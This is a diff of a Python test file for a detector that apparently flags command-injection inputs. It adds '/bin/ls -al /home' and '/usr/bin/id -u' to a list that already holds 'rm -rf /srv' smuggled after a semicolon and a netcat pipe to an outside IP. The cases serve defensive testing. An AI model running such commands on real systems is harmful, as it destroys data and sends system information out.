@@ -225,6 +225,8 @@ def test_ordinary_tool_arguments_are_not_high(text: str) -> None:
         ),
         ("/usr/local/bin/python3; rm -rf /srv", "webattack.cmdi"),
         ("/usr/bin/python3 -c 'import os'", "webattack.cmdi"),
+        ("/bin/ls -al /home", "webattack.cmdi"),
+        ("/usr/bin/id -u", "webattack.cmdi"),
         ("ls -la /root", "webattack.cmdi"),
         ("ls -la; id", "webattack.cmdi"),
         ("ls -la | nc 203.0.113.9 9001", "webattack.cmdi"),
